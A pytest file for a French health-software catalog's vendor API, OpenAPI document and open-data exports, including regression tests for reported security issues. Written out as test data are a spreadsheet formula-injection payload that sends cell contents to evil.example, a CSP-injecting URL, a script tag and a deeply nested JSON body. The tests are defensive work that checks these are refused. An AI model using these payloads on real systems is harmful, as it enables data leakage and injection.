"""The vendor API with a client-credentials token, its OpenAPI document, and the open data."""

from __future__ import annotations

import base64
import csv
import io
import re

import pytest
from bouquet_catalog import openapi


def _token(app, client_id: str, secret: str, scope: str = "catalog.submit") -> str:
    from starlette.testclient import TestClient

    response = TestClient(app, base_url="http://localhost").post(
        "/token", data={"grant_type": "client_credentials", "scope": scope}, auth=(client_id, secret))
    assert response.status_code == 200, response.text
    return response.json()["access_token"]


def _body(h, **overrides):
    values = {"name": "Agenda Kiné", "category": "LGC", "version": "1.0", "description": "Agenda du cabinet.",
              "professions": ["70"], "regions": ["FR"], "claims": [{"code": "psc", "evidence": "Raccordement PSC"}],
              "logo": {"data": base64.b64encode(h.png()).decode()}}
    values.update(overrides)
    return values


def test_vendor_api_create_update_submit(app, client, clients, vendor, operator, h):
    seller = clients(vendor)
    shown = seller.submit("/p/catalog/vendor/api-clients")
    client_id = re.search(r'data-testid="client-id">([^<]+)<', shown.text).group(1)
    secret = re.search(r'data-testid="client-secret">([^<]+)<', shown.text).group(1)
    api = {"Authorization": f"Bearer {_token(app, client_id, secret)}"}

    assert client.get("/p/catalog/api/solutions").status_code == 401
    bad = client.post("/p/catalog/api/solutions", json=_body(h, category="NOPE", description="<script>x</script>",
                                                               redirect_uris=["http://evil.example/cb"], launch_url="https://a.example/l",
                                                               logo={"data": base64.b64encode(b"nope").decode()}), headers=api)
    assert bad.status_code == 400
    assert set(bad.json()["errors"]) == {"category", "description", "redirect_uris", "logo"}
    assert "Catégorie" in bad.json()["errors"]["category"]

    created = client.post("/p/catalog/api/solutions", json=_body(h), headers=api)
    assert created.status_code == 201, created.text
    solution_id = created.json()["id"]
    assert created.json()["status"] == "draft"
    updated = client.put(f"/p/catalog/api/solutions/{solution_id}", json=_body(h, version="1.1", submit=True), headers=api)
    assert updated.status_code == 200 and updated.json()["status"] == "submitted"
    again = client.post(f"/p/catalog/api/solutions/{solution_id}/submit", headers=api)
    assert again.status_code == 409 and "Soumise" in again.json()["message"]
    assert client.put(f"/p/catalog/api/solutions/{solution_id}", json=_body(h), headers=api).status_code == 409
    listed = client.get("/p/catalog/api/solutions", headers=api).json()["solutions"]
    assert [s["id"] for s in listed] == [solution_id]
    history = client.get(f"/p/catalog/api/solutions/{solution_id}", headers=api).json()["history"]
    assert [e["transition"] for e in history] == ["create", "submit"]
    # Another vendor's solution does not exist for this client.
    other = clients(operator)  # an operator token cannot be had; a foreign id is enough
    assert client.get("/p/catalog/api/solutions/999", headers=api).status_code == 404
    assert other.get("/p/catalog/review").status_code == 200


@pytest.mark.backends("sqlite")
def test_openapi_lists_every_api_route(client):
    from bouquet_catalog import bouquet_routes

    document = client.get("/p/catalog/api/openapi.json").json()
    assert document["openapi"].startswith("3.")
    served = {(f"/p/catalog{route.path}".replace(":int", ""), method.lower())
              for route in bouquet_routes() if route.path.startswith("/api/") for method in route.methods - {"HEAD"}}
    documented = {(path, method) for path, item in document["paths"].items() for method in item if method != "parameters"}
    assert served == documented
    assert openapi.BASE == "/p/catalog/api"


def test_open_data_lists_referenced_solutions_only(app, client):
    from bouquet_catalog.demo import load

    load(app.state.db)
    data = client.get("/p/catalog/opendata/solutions.json")
    assert data.status_code == 200  # public: no sign-in
    names = {s["nom"] for s in data.json()["solutions"]}
    assert names == {"Médicab Cabinet", "Officine Plus", "Télésuivi Cœur", "Parcours Rhône", "Consult'Écran"}
    table = client.get("/p/catalog/opendata/solutions.csv")
    assert table.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(table.text.lstrip("\ufeff")), delimiter=";"))
    assert {row["nom"] for row in rows} == names
    assert "Référencement Ségur du numérique (Vague 2)" in next(r for r in rows if r["nom"] == "Médicab Cabinet")["conformites_verifiees"]


def _api_headers(app, clients, vendor):
    shown = clients(vendor).submit("/p/catalog/vendor/api-clients")
    client_id = re.search(r'data-testid="client-id">([^<]+)<', shown.text).group(1)
    secret = re.search(r'data-testid="client-secret">([^<]+)<', shown.text).group(1)
    return {"Authorization": f"Bearer {_token(app, client_id, secret)}", "Content-Type": "application/json"}


def test_deeply_nested_json_is_refused_with_400(app, client, clients, vendor, h):
    # Issue 13, item 4: deep nesting gave a 500 (RecursionError).
    api = _api_headers(app, clients, vendor)
    deep = client.post("/p/catalog/api/solutions", content=b"[" * 100_000 + b"]" * 100_000, headers=api)
    assert deep.status_code == 400
    assert "trop imbriqué" in deep.json()["errors"]["body"]
    assert client.get("/p/catalog/api/solutions", headers=api).json()["solutions"] == []
    created = client.post("/p/catalog/api/solutions", json=_body(h), headers=api)
    assert created.status_code == 201, created.text


def test_open_data_csv_never_hands_a_spreadsheet_a_formula(app, client):
    # Issue 13, item 7: `=HYPERLINK(...)` as a solution's name ran in the reader's spreadsheet.
    from bouquet_catalog.demo import load
    from bouquet_catalog.models import Revision, Solution
    from sqlmodel import select

    load(app.state.db)
    formula = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")'
    with app.state.db.write() as session:
        solution = session.exec(select(Solution).where(Solution.status == "referenced")).first()
        revision = session.get(Revision, solution.published_revision_id)
        revision.content = {**revision.content, "name": formula, "website": "@SUM(1+1)"}
        session.add(revision)
    table = client.get("/p/catalog/opendata/solutions.csv")
    rows = list(csv.reader(io.StringIO(table.text.lstrip("\ufeff")), delimiter=";"))
    hostile = next(row for row in rows if formula in "".join(row))
    assert "'" + formula in hostile and "'@SUM(1+1)" in hostile
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    # The JSON keeps the name as the vendor wrote it: only a spreadsheet needs the quote.
    assert formula in {s["nom"] for s in client.get("/p/catalog/opendata/solutions.json").json()["solutions"]}


def test_launch_and_redirect_urls_are_strict_web_addresses(app, client, clients, vendor, h):
    # Issue 13, item 6: a launch URL with spaces, quotes or `;` in its host ended up as CSP directives.
    api = _api_headers(app, clients, vendor)
    for bad in ("https://evil.example;script-src *", "https://evil example", "https://user:pw@app.example/l",
                'https://app.example"/l'):
        refused = client.post("/p/catalog/api/solutions", json=_body(
            h, launch_url=bad, redirect_uris=["https://app.example/cb"]), headers=api)
        assert refused.status_code == 400 and "launch_url" in refused.json()["errors"], bad
        refused = client.post("/p/catalog/api/solutions", json=_body(
            h, launch_url="https://app.example/l", redirect_uris=[bad]), headers=api)
        assert refused.status_code == 400 and "redirect_uris" in refused.json()["errors"], bad
    assert client.get("/p/catalog/api/solutions", headers=api).json()["solutions"] == []
    created = client.post("/p/catalog/api/solutions", json=_body(
        h, launch_url="https://app.example/l", redirect_uris=["https://app.example/cb"]), headers=api)
    assert created.status_code == 201, created.text
